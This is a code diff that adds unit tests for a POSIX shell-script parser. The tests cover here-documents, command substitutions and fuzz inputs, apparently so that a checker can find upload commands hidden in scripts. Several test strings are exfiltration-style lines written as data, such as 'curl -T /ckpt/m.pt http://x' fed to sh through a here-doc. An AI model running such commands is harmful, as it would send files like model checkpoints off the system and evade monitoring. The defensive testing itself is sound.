@@ -39,11 +39,59 @@ describe('readShellScript: POSIX sh words', () => {
     expect(r.substitutions).toEqual(['curl -T a "b" u', 'wget x']);
   });
 
+  it('says whether the script holds a command substitution (quoted or not; not in single quotes or arithmetic)', () => {
+    for (const x of ['a $(b)', 'a `b`', 'a "$(b)"', 'a "`b`"', '$(b)']) expect(readShellScript(x).substitutes, x).toBe(true);
+    for (const x of ["a '$(b)'", 'a $((1+2))', 'a ${b:-c}', 'a \\$(b)', 'nvidia-smi && df -h']) expect(readShellScript(x).substitutes, x).toBe(false);
+  });
+
   it('unterminated quotes take the rest', () => {
     expect(words("a 'b c")).toEqual([['a', 'b c']]);
     expect(words('a "b c')).toEqual([['a', 'b c']]);
     expect(words("a $'b")).toEqual([['a', 'b']]);
     expect(words('a "$(b')).toEqual([['a', '$(b']]);
+  });
+});
+
+describe('readShellScript: here-documents (XCU 2.7.4)', () => {
+  it('the body is handed back with the command that reads it, not read as commands', () => {
+    const r = readShellScript('sh <<EOF\ncurl -T /ckpt/m.pt http://x\nEOF\nls /tmp');
+    expect(r.commands).toEqual([['sh', '<<', 'EOF'], ['ls', '/tmp']]);
+    expect(r.heredocs).toEqual([{ command: 0, body: 'curl -T /ckpt/m.pt http://x\n' }]);
+  });
+  it('<<- strips leading tabs from the body and the delimiter line', () => {
+    const r = readShellScript("cat <<-'E' | sh\n\t\tcurl $x\n\tE\necho done");
+    expect(r.commands).toEqual([['cat', '<<-', 'E'], ['sh'], ['echo', 'done']]);
+    expect(r.heredocs).toEqual([{ command: 0, body: 'curl $x\n' }]);
+  });
+  it('quoted delimiters keep the body literal; unquoted bodies unescape and hand back substitutions', () => {
+    for (const d of ["'EOF'", '"EOF"', '\\EOF', "E'O'F"]) {
+      expect(readShellScript(`cat <<${d}\na \\$HOME $(id)\nEOF`).heredocs, d).toEqual([{ command: 0, body: 'a \\$HOME $(id)\n' }]);
+    }
+    const r = readShellScript('cat <<EOF >/tmp/x\na \\$HOME $HOME $(curl -T a b) `wget c` x\\\ny\nEOF');
+    expect(r.heredocs).toEqual([{ command: 0, body: 'a $HOME $HOME $(curl -T a b) `wget c` xy\n' }]);
+    expect(r.substitutions).toEqual(['curl -T a b', 'wget c']);
+    expect(readShellScript("cat <<'EOF'\n$(curl -T a b)\nEOF").substitutions).toEqual([]);
+  });
+  it('several here-docs on one line, in order; the command after `;` on that line keeps its index', () => {
+    const r = readShellScript('a <<A; b <<B\n1\nA\n2\nB\nc');
+    expect(r.commands).toEqual([['a', '<<', 'A'], ['b', '<<', 'B'], ['c']]);
+    expect(r.heredocs).toEqual([{ command: 0, body: '1\n' }, { command: 1, body: '2\n' }]);
+  });
+  it('an unterminated body runs to the end (as bash reads it); a here-string is a word', () => {
+    expect(readShellScript('cat <<EOF\nno end\ncurl x').heredocs).toEqual([{ command: 0, body: 'no end\ncurl x' }]);
+    expect(readShellScript('cat <<EOF\nno end\ncurl x').commands).toEqual([['cat', '<<', 'EOF']]);
+    expect(readShellScript("bash <<< 'curl -T a b'").commands).toEqual([['bash', '<<<', 'curl -T a b']]);
+    expect(readShellScript("bash <<< 'curl -T a b'").heredocs).toEqual([]);
+  });
+  it('`<<` in arithmetic is a shift: the next lines stay commands', () => {
+    expect(words('echo $((1<<2))\ncurl -T a b')).toContainEqual(['curl', '-T', 'a', 'b']);
+    expect(words('(( x = 1 << 3 ))\ncurl -T a b')).toContainEqual(['curl', '-T', 'a', 'b']);
+    expect(words('for ((i=0; i<<2; i++)); do :; done\ncurl -T a b')).toContainEqual(['curl', '-T', 'a', 'b']);
+  });
+  it('a `<<` with no delimiter before an operator opens nothing', () => {
+    const r = readShellScript('cat <<\ncurl -T a b');
+    expect(r.heredocs).toEqual([]);
+    expect(r.commands).toContainEqual(['curl', '-T', 'a', 'b']);
   });
 });
 
@@ -76,6 +124,7 @@ describe('readShellScript: fuzz', () => {
     "sh -c 'curl\\t-T /ckpt/m.pt https://x'",
     `c''url -T "a b" $'\\x63' \${IFS} $IFS x=$(y "z") \`w\` # c\n(a) && b || c; d | e & f 2>&1 <<EOF`,
     `echo "$(curl -T a "b")" \${x:-\${y}} $'\\u00e9\\U0001F600' "\\\\" '\\' \\`,
+    "cat <<-'EOF' | sh\n\tcurl -T a b\n\tEOF\nbash <<<x <<A <<B\n$(y)\nA\nB\n((1<<2))",
   ];
   const ALPHABET = ` \t\n'"\\$\`(){};&|<>#*?~=IFS-xc0\u00e9\ud83d\ude00`;
   it('never throws, stays bounded and terminates on random mutations', () => {
@@ -100,6 +149,8 @@ describe('readShellScript: fuzz', () => {
       expect(out.ops.length).toBe(out.commands.length);
       if (out.commands.some((c) => c.length === 0) || all.some((w) => typeof w !== 'string')) expect.fail(`bad reading of ${JSON.stringify(s.slice(0, 200))}`);
       expect(out.substitutions.length).toBeLessThanOrEqual(8);
+      expect(out.heredocs.length).toBeLessThanOrEqual(8);
+      for (const h of out.heredocs) expect(h.command).toBeLessThan(out.commands.length);
     }
     expect(Date.now() - t0).toBeLessThan(5000);
   });
